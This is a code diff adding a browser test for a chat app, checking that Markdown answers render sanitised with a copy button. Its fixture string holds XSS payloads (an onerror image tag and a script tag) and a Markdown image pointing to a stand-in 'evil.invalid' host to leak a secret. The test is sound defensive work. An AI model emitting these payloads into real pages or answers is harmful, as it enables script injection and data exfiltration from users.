@@ -173,3 +173,51 @@ def test_stop_cancels_the_run_and_unlocks_input(serve, new_page, shot):
     expect(page.locator(".session-item.active .session-meta")).to_contain_text("Waiting for your instruction")
     shot(page, "cancelled-waiting")
     expect(app.messages).not_to_contain_text("This answer is never reached.")
+
+
+MARKDOWN_ANSWER = (
+    "Here is **bold**, *italic* and `code`.\n\n"
+    "- first\n- second\n\n"
+    "| tool | runs |\n|---|---|\n| shell | 2 |\n\n"
+    "```python\nprint('hi')\n```\n\n"
+    "[docs](https://example.invalid/docs) <img src=x onerror=alert(1)> "
+    "![leak](https://evil.invalid/?q=secret) <script>alert(2)</script>"
+)
+
+
+def test_answers_render_markdown_sanitised_with_a_copy_button(serve, new_page, shot):
+    """Issue 14: answers are Markdown (bold, lists, tables, code with a copy button) through
+    the vendored marked + DOMPurify; hostile HTML and images never reach the page, and the
+    page requests nothing outside the server."""
+    server = serve([{"text": MARKDOWN_ANSWER}])
+    page = new_page()
+    requests: list[str] = []
+    page.on("request", lambda r: requests.append(r.url))
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    app = App(page, server).open()
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    app.send_and_wait("show me markdown", "Here is bold")
+    answer = page.locator("#messages .msg.assistant.final .markdown")
+    expect(answer.locator("strong")).to_have_text("bold")
+    expect(answer.locator("em")).to_have_text("italic")
+    expect(answer.locator("ul > li")).to_have_count(2)
+    expect(answer.locator("table th").first).to_have_text("tool")
+    expect(answer.locator("table td").first).to_have_text("shell")
+    expect(answer.locator(".code-block pre.answer-code")).to_contain_text("print('hi')")
+    link = answer.locator("a", has_text="docs")
+    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
+    expect(link).to_have_attribute("target", "_blank")
+    expect(answer.locator("img, script")).to_have_count(0)
+    expect(answer).to_contain_text("<img src=x onerror=alert(1)>")  # HTML shows as text
+    answer.locator(".copy-code").click()
+    expect(answer.locator(".copy-code")).to_have_text("Copied")
+    assert page.evaluate("navigator.clipboard.readText()") == "print('hi')"
+    # After a refresh the restored answer is rendered the same way.
+    app.reload()
+    expect(page.locator("#messages .msg.assistant .markdown table")).to_have_count(1)
+    assert not dialogs
+    assert all(u.startswith(server.http) or u.startswith("ws://") for u in requests), [
+        u for u in requests if not u.startswith(server.http)
+    ]
+    shot(page, "issue14-markdown")
